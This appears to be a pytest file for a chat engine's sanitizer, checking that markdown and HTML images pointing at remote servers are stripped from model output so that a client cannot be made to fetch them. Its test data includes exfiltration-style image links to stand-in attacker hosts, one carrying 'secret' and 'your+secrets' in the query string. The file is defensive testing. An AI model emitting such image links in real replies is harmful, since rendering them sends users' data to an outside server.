"""sanitize_html removes images a client would fetch from another server (exfiltration)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from companion_engine.builtin.markup.policy import is_remote_url
from companion_engine.builtin.sanitizers import SanitizeHTML
from tests.test_sanitizers import every_split, run, split_at

STRIPPED = [
    ("See ![the map](https://evil.example/p.png?q=secret) here.", "See the map here."),
    ('![x](<https://e.example/a b> "t")!', "x!"),
    ("![a [b] c](https://e.example/x (title)) end", "a [b] c end"),
    ('![t](https://e.example/x "a (b)")', "t"),
    ("Hi ![x][r]\n[r]: https://evil.example/?q=1\nbye", "Hi ![x][r]\nbye"),
    ("[r]: https://evil.example/?q=1", ""),
    ('![chart](https://e.example/c.png "Chart") ok', "chart ok"),
    ("![](//evil.example/x)", ""),
    ('<img src="https://evil.example/?d=1" alt="a"> after', " after"),
    ("<IMG SRC=HTTPS://evil.example/x>", ""),
    ('<img srcset="https://e.example/1x.png 1x">', ""),
    ('<video poster="http://e.example/p.jpg"></video>', "</video>"),
]

KEPT = [
    "![local](/static/smile.png)",
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    "Wow! Great!! [link](https://example.com) stays a link.",
    "a ! [not] (an image)",
    "![unfinished](https://e.example/x",
    "[ref]: /local/page\nText with [a link][ref].",
    "[joy] Hello![calm] yes",
]


@pytest.mark.parametrize(("text", "expected"), STRIPPED)
def test_remote_images_are_removed(text: str, expected: str) -> None:
    for parts in every_split(text):
        assert run(SanitizeHTML(), parts) == expected, parts


@pytest.mark.parametrize("text", KEPT)
def test_local_images_links_and_text_are_kept(text: str) -> None:
    for parts in every_split(text):
        assert run(SanitizeHTML(), parts) == text, parts


def test_remote_images_option_keeps_them() -> None:
    stage = SanitizeHTML(SanitizeHTML.Options(remote_images=True))
    text = '![m](https://e.example/m.png) <img src="https://e.example/i.png">'
    assert run(stage, [text]) == text


def test_is_remote_url() -> None:
    assert is_remote_url("https://a") and is_remote_url("HTTP://a") and is_remote_url("//a")
    assert is_remote_url("ftp://a") and is_remote_url("&#104;ttps://a".replace("&#104;", "h"))
    assert not is_remote_url("/a.png") and not is_remote_url("img/a.png")
    assert not is_remote_url("data:image/png;base64,AA")


TOKENS = st.sampled_from(["![", "](", ")", "https://e.x/", "a", " ", "!", "[", "]", "<img src=",
                          '"', "/l.png", "\n", "text", ">", "(", "'t'", "[r]: ", " (t)",
                          '"t (x)"', "<", "   "])


@settings(max_examples=600)
@given(tokens=st.lists(TOKENS, max_size=25), cuts=st.lists(st.integers(0, 400), max_size=8))
def test_output_does_not_depend_on_chunking(tokens: list[str], cuts: list[int]) -> None:
    text = "".join(tokens)
    assert run(SanitizeHTML(), split_at(text, cuts)) == run(SanitizeHTML(), [text])


async def test_chat_display_text_has_no_remote_image(make_client) -> None:  # type: ignore[no-untyped-def]
    from companion_engine.testing import LLMTestServer, Script

    server = await LLMTestServer.start()
    try:
        client = await make_client(profile={"llm": {"model": "openai/test",
                                                    "api_base": server.openai_base}})
        server.push(Script(tokens=["Here", " ![", "pic](https://evil.", "example/?q=",
                                   "your+secrets)", " done."]))
        resp = await client.post("/api/chat", json={"message": "hi"})
        body = await resp.json()
        assert resp.status == 200, body
        assert body["content"] == "Here pic done."
    finally:
        await server.close()
